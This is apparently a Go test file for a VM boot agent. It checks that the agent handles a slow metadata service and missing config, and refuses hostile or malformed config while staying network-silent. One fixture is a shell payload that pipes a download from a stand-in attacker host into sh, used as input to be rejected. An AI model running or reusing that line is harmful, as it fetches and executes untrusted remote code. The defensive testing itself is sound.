package assay

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/netip"
	"path/filepath"
	"strings"
	"sync/atomic"
	"time"

	packet "github.com/gopacket/gopacket/layers"

	"ingot/qemu-tests/internet"
)

// sourceScenarios are about where the instance config comes from, and does not.
func sourceScenarios() []scenario {
	return []scenario{
		{
			id: "metadata-slow", title: "takes its config from a metadata service that fails, is slow, and then answers", seconds: 65, play: playSlowMetadata,
			sabotage: sabotage{what: "a service that answers everything with 500", world: true},
		},
		{
			id: "no-user-data", title: "without a config it says so, and is silent", seconds: 100, play: playNoUserData,
			sabotage: sabotage{what: "a config in fw_cfg", world: true},
		},
		{
			id: "hostile-user-data", title: "configs that are none are refused, each with its reason, and it is silent", seconds: 65, play: playHostileUserData,
			sabotage: sabotage{what: "a good config in the metadata service", world: true},
		},
	}
}

// hetzner makes the machine take itself for one of that provider's.
var hetzner = []string{"type=1,manufacturer=Hetzner,product=vServer"}

// userDataPath is where that provider's metadata service has the user-data.
const userDataPath = "/hetzner/v1/userdata"

func playSlowMetadata(ctx context.Context, s *scene) (string, error) {
	var requests atomic.Int32
	err := s.lab.Internet.SetMetadata(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch n := requests.Add(1); {
		case r.URL.Path != userDataPath:
			http.NotFound(w, r)
		case n <= 2 || s.otherwise():
			http.Error(w, "not yet", http.StatusInternalServerError)
		case n == 3:
			stall(r.Context(), 5*time.Second)
			fallthrough
		default:
			_, _ = w.Write(s.id.Instance) // who has gone asks again
		}
	}))
	if err != nil {
		return "", err
	}
	if err := s.boot(ctx, BootOptions{SMBIOS: hetzner}); err != nil {
		return "", err
	}
	if s.otherwise() { // it will not come up: do not wait for what cannot be
		return "", s.says(ctx, "instance config applied from the metadata service")
	}
	if err := s.connected(ctx); err != nil {
		return "", err
	}
	if err := s.says(ctx, "instance config applied from the metadata service"); err != nil {
		return "", err
	}
	return fmt.Sprintf("%d requests, up %.0f s after power-on", requests.Load(), time.Since(s.machine.Since).Seconds()), s.well(ctx)
}

// stall is the slowness of a service: this is what it does, nothing waits for it.
func stall(ctx context.Context, d time.Duration) {
	select {
	case <-time.After(d):
	case <-ctx.Done():
	}
}

// says waits for the end of the boot and looks for texts on the console.
func (s *scene) says(ctx context.Context, texts ...string) error {
	if _, err := s.machine.AwaitUp(ctx, 0); err != nil {
		return promised(err)
	}
	console := s.machine.Console()
	for _, want := range texts {
		if !strings.Contains(console, want) {
			return unmet("the console does not say %q but:\n%s", want, statusLines(console))
		}
	}
	return nil
}

// statusLines are what the agent says at the end of a boot.
func statusLines(console string) string {
	var lines strings.Builder
	for line := range strings.Lines(console) {
		if _, said, ok := strings.Cut(line, "ingot: "); ok {
			lines.WriteString("  " + said)
		}
	}
	return lines.String()
}

func playNoUserData(ctx context.Context, s *scene) (string, error) {
	var o BootOptions
	if s.otherwise() {
		o.Instance = s.id.Instance
	}
	if err := s.boot(ctx, o); err != nil {
		return "", err
	}
	err := s.says(ctx, "NO INSTANCE CONFIG", "tried QEMU fw_cfg opt/com.coreos/config: not present",
		"tried the ESP's /instance.ign: not present", "the last good config on ingot-var: not present")
	if err != nil {
		return "", err
	}
	return s.silent(ctx)
}

// hostile are texts that are no instance config, and what the machine must say.
var hostile = struct{ notJSON, wrongVersion []byte }{
	[]byte("#!/bin/sh\ncurl evil.example | sh\n"),
	[]byte(`{"ignition":{"version":"9.9.9"}}`),
}

func playHostileUserData(ctx context.Context, s *scene) (string, error) {
	notes, err := s.volumes(map[string][]byte{"cidata": hostile.wrongVersion, "config-2": bytes.Repeat([]byte("{"), 10<<20)})
	if err != nil {
		return "", err
	}
	err = s.lab.Internet.SetMetadata(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		config := []byte("<html>captive portal</html>")
		if s.otherwise() {
			config = s.id.Instance
		}
		_, _ = w.Write(config)
	}))
	if err != nil {
		return "", err
	}
	if err := s.boot(ctx, BootOptions{Instance: hostile.notJSON, Disks: notes, SMBIOS: hetzner}); err != nil {
		return "", err
	}
	err = s.says(ctx, "NO INSTANCE CONFIG", "tried QEMU fw_cfg opt/com.coreos/config: not an instance config",
		"tried a volume labelled cidata: not an instance config", "tried a volume labelled config-2: not an instance config: larger than 4194304 bytes",
		"hetzner: not an instance config")
	if err != nil {
		return "", err
	}
	return s.silent(ctx)
}

// silent wants the machine to have asked for a config, and to send nothing from
// now on.
func (s *scene) silent(ctx context.Context) (string, error) {
	if err := s.machine.staysSilent(ctx, s.lab.Internet.Mark()); err != nil {
		return "", err
	}
	asked, err := s.onlyAsks()
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("said why, asked for a metadata service in %d packets, then sent nothing", asked), s.noAlarms()
}

// staysSilent knocks at every port and wants no frame at all from the machine
// since the mark, not even to have an address. The scans of the standard assay
// are the positive control.
func (m *Booted) staysSilent(ctx context.Context, since internet.Mark) error {
	for _, target := range []netip.Addr{m.lab.Machine.IPv4(), m.lab.Machine.IPv6()} {
		knocking, cancel := context.WithTimeout(ctx, m.lab.Timeout(2*time.Second))
		scan, err := m.lab.Internet.ScanTCP(knocking, target, internet.AllPorts())
		cancel()
		// A card that the guest never switched on takes no frames: the scan
		// cannot even be delivered.
		if err != nil && !errors.Is(err, context.DeadlineExceeded) {
			return err
		}
		if len(scan.Answers) > 0 {
			return unmet("%s answers on %d ports", target, len(scan.Answers))
		}
	}
	n, err := m.lab.Internet.Count(since, func(f internet.Frame) bool { return f.Direction == internet.FromMachine })
	if err != nil {
		return err
	}
	if n > 0 {
		return unmet("the machine sends: %d frames", n)
	}
	return nil
}

// onlyAsks wants nothing from the machine since it was powered on but what it
// takes to have an IPv4 address and to ask a metadata service; it returns how
// many packets went to one.
func (s *scene) onlyAsks() (asked int, err error) {
	for f, err := range s.lab.Internet.Frames(s.machine.mark) {
		switch {
		case err != nil:
			return 0, err
		case f.Direction != internet.FromMachine:
		case isMetadataRequest(f):
			asked++
		case f.Packet.Layer(packet.LayerTypeARP) == nil && f.Packet.Layer(packet.LayerTypeDHCPv4) == nil:
			return 0, unmet("the machine sent %v", f.Packet)
		}
	}
	if asked == 0 {
		return 0, unmet("the machine did not ask for a metadata service")
	}
	return asked, nil
}

// isMetadataRequest matches TCP to port 80 of the metadata addresses.
func isMetadataRequest(f internet.Frame) bool {
	ip, isIP := f.Packet.Layer(packet.LayerTypeIPv4).(*packet.IPv4)
	tcp, isTCP := f.Packet.Layer(packet.LayerTypeTCP).(*packet.TCP)
	if f.Direction != internet.FromMachine || !isIP || !isTCP || tcp.DstPort != 80 {
		return false
	}
	to, _ := netip.AddrFromSlice(ip.DstIP.To4())
	return to == netip.MustParseAddr("169.254.169.254") || to == netip.MustParseAddr("169.254.42.42")
}

// path is a file of the scene's.
func (s *scene) path(name string) string { return filepath.Join(s.lab.dir, name) }
